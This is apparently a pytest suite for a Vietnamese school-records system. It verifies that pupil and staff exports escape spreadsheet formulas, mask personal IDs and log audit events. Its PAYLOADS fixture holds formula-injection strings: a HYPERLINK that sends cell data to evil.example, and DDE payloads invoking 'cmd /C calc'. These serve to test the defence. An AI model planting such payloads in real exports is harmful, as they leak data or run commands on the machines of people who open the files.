"""Exports of pupils and staff: no formula can survive (security.md finding 5, target E3), the
personal ID only for those allowed to see it, an audit event, and a clean round trip."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import time_machine
from django.core.management import call_command

from hocbaso.audit.models import AuditEvent
from hocbaso.people.actions.imports import import_staff, import_students
from hocbaso.people.errors import ActionError
from hocbaso.people.exports import students as student_exports
from hocbaso.people.exports.cells import ExportFormat, escape_text, unescape_text
from hocbaso.people.exports.staff import export_staff
from hocbaso.people.exports.students import export_students
from hocbaso.people.imports.templates import staff_template, student_template
from hocbaso.people.models import Student
from hocbaso.people.tests.corpus import STAFF_HEADER, STUDENT_HEADER

pytestmark = pytest.mark.django_db

TODAY = dt.date(2026, 10, 1)
PAYLOADS = {
    "full_name": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "father_name": "+84 1+1",
    "mother_name": "-2+3+cmd|' /C calc'!A0",
    "guardian_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "birth_place": "\t=1+1",
    "current_address": "\r=2+2",
    "hometown": "|calc",
    "policy_group": "%0A=1",
}
PUPIL_A_ID = "058216000201"


@pytest.fixture
def hostile_world(world):
    """Pupil A's profile filled with formula payloads (written directly, as legacy data
    would be: the actions normalise whitespace away) and given a personal ID."""
    Student.objects.filter(pk=world.pupil_a.pk).update(**PAYLOADS, personal_id=PUPIL_A_ID)
    return world


def export(world, fmt: ExportFormat, *, persona: str = "principal", **kwargs):
    return export_students(
        world.school.pk, acting_user=world.user(persona), fmt=fmt, today=TODAY, **kwargs
    )


def test_xlsx_export_has_no_formula_cell(hostile_world) -> None:
    # when
    result = export(hostile_world, ExportFormat.XLSX)
    # then: every cell is a string, the payloads are intact and marked as text
    workbook = openpyxl.load_workbook(io.BytesIO(result.content))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert {c.data_type for c in cells} == {"s"}
    values = {c.value: c for c in cells}
    for payload in PAYLOADS.values():
        # openpyxl's lxml writer keeps a CR (as &#13;); its plain writer lets XML turn it into LF
        cell = values.get(payload) or values[payload.replace("\r", "\n")]
        assert cell.quotePrefix is True
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    assert result.content_type.startswith("application/vnd.openxmlformats")


def test_csv_export_prefixes_every_trigger_with_a_quote(hostile_world) -> None:
    # when
    result = export(hostile_world, ExportFormat.CSV)
    # then
    text = result.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == STUDENT_HEADER
    cells = [cell for row in rows for cell in row if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r|%\0"]
    for payload in PAYLOADS.values():
        assert f"'{payload}" in cells
    assert result.content.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("payload", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\0x", "|x", "%x"])
def test_quote_prefix_round_trips(payload: str) -> None:
    assert escape_text(payload) == f"'{payload}"
    assert unescape_text(escape_text(payload)) == payload
    assert unescape_text("'plain") == "'plain"


@pytest.mark.parametrize("fmt", [ExportFormat.XLSX, ExportFormat.CSV])
def test_export_re_imported_is_all_already_present(hostile_world, fmt: ExportFormat) -> None:
    # given
    result = export(hostile_world, fmt)
    # when
    report = import_students(
        hostile_world.school.pk,
        result.content,
        result.filename,
        acting_user=hostile_world.user("principal"),
        today=TODAY,
    )
    # then
    assert report.errors == []
    assert report.to_create == []
    assert [s.label for s in report.skipped] == [PAYLOADS["full_name"], "Phạm Thu Hà"]


def test_export_writes_one_event_naming_whose_personal_id_left(hostile_world) -> None:
    # given
    world = hostile_world
    before = AuditEvent.objects.count()
    # when
    result = export(world, ExportFormat.XLSX)
    # then
    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.get(action="export.students")
    assert event.chain == f"school:{world.school.pk}"
    assert event.data == {
        "format": "xlsx",
        "school_year": "2026-2027",
        "class": None,
        "rows": 2,
        "file_name": result.filename,
        "personal_id_shown_for": [world.pupil_a.pk],
    }
    assert PUPIL_A_ID not in str(event.data)
    rows = list(openpyxl.load_workbook(io.BytesIO(result.content)).worksheets[0].values)
    assert rows[1][13] == PUPIL_A_ID


def test_personal_id_is_masked_for_those_who_may_not_see_it(hostile_world, monkeypatch) -> None:
    # given
    monkeypatch.setattr(student_exports.access, "can_view_personal_id", lambda user, pupil: False)
    # when
    result = export(hostile_world, ExportFormat.CSV)
    # then
    text = result.content.decode("utf-8-sig")
    assert PUPIL_A_ID not in text
    assert "•••••••••201" in text
    event = AuditEvent.objects.get(action="export.students")
    assert event.data["personal_id_shown_for"] == []


def test_class_export_has_only_that_class(world) -> None:
    # when
    result = export(world, ExportFormat.CSV, class_group_id=world.class_5b.pk)
    # then
    rows = list(csv.reader(io.StringIO(result.content.decode("utf-8-sig"), newline="")))
    assert [(r[1], r[15]) for r in rows[1:]] == [("Phạm Thu Hà", "5B")]
    assert AuditEvent.objects.get(action="export.students").data["class"] == "5B"


@pytest.mark.parametrize("persona", ["other_principal", "homeroom_4a", "sysadmin", "parent_a"])
def test_export_refused_writes_no_event(world, persona: str) -> None:
    # given
    before = AuditEvent.objects.count()
    # when / then
    with pytest.raises(ActionError):
        export(world, ExportFormat.XLSX, persona=persona)
    assert AuditEvent.objects.count() == before


def test_class_of_another_school_is_refused(world) -> None:
    with pytest.raises(ActionError):
        export(world, ExportFormat.CSV, class_group_id=world.class_1a_other.pk)


def test_staff_export_lists_roles_and_assignments_and_round_trips(world) -> None:
    # when
    result = export_staff(
        world.school.pk, acting_user=world.user("principal"), fmt="csv", today=TODAY
    )
    # then
    rows = list(csv.reader(io.StringIO(result.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == STAFF_HEADER
    assert [r[2:] for r in rows[1:]] == [
        ["group_head", "", "Tổ trưởng chuyên môn", "4", "", ""],
        ["homeroom_4a", "", "Giáo viên", "", "4A", "4A:toan"],
        ["principal", "", "Hiệu trưởng", "", "", ""],
        ["school_admin", "", "Quản trị nhà trường", "", "", ""],
        ["subject_teacher_5b", "", "Giáo viên", "", "", "5B:tin_hoc"],
        ["vice_principal", "", "Phó hiệu trưởng", "", "", ""],
    ]
    assert AuditEvent.objects.get(action="export.staff").data["rows"] == 6
    # when: re-imported in a dry run
    report = import_staff(
        world.school.pk, result.content, result.filename, acting_user=world.user("principal"),
        today=TODAY,
    )  # fmt: skip
    # then
    assert report.errors == []
    assert len(report.skipped) == 6


@pytest.mark.parametrize("fmt", [ExportFormat.XLSX, ExportFormat.CSV])
def test_templates_have_the_import_headers(world, fmt: ExportFormat) -> None:
    # when
    pupils, staff = student_template(fmt), staff_template(fmt)
    # then
    for template, header in ((pupils, STUDENT_HEADER), (staff, STAFF_HEADER)):
        if fmt is ExportFormat.XLSX:
            sheet = openpyxl.load_workbook(io.BytesIO(template.content)).worksheets[0]
            assert [c.value for c in next(sheet.iter_rows())] == header
        else:
            assert template.content.decode("utf-8-sig").splitlines()[0] == ",".join(header)
    report = import_students(
        world.school.pk, pupils.content, pupils.filename, acting_user=world.user("principal"),
        today=TODAY,
    )  # fmt: skip
    assert [str(e) for e in report.errors] == [
        "Tệp chỉ có dòng tiêu đề, không có dòng dữ liệu nào."
    ]


def test_export_students_command_writes_the_file(world, tmp_path) -> None:
    # given
    out = tmp_path / "hoc-sinh.xlsx"
    # when
    with time_machine.travel(dt.datetime(2026, 10, 1, 9, tzinfo=dt.UTC)):
        call_command("export_students", "--school", "TH-DV", "--out", str(out), "--class", "4a")
    # then
    rows = list(openpyxl.load_workbook(out).worksheets[0].values)
    assert [r[1] for r in rows[1:]] == ["Lê Minh An"]
    event = AuditEvent.objects.get(action="export.students")
    assert (event.actor_id, event.actor_label, event.origin) == (None, "hệ thống", "command")
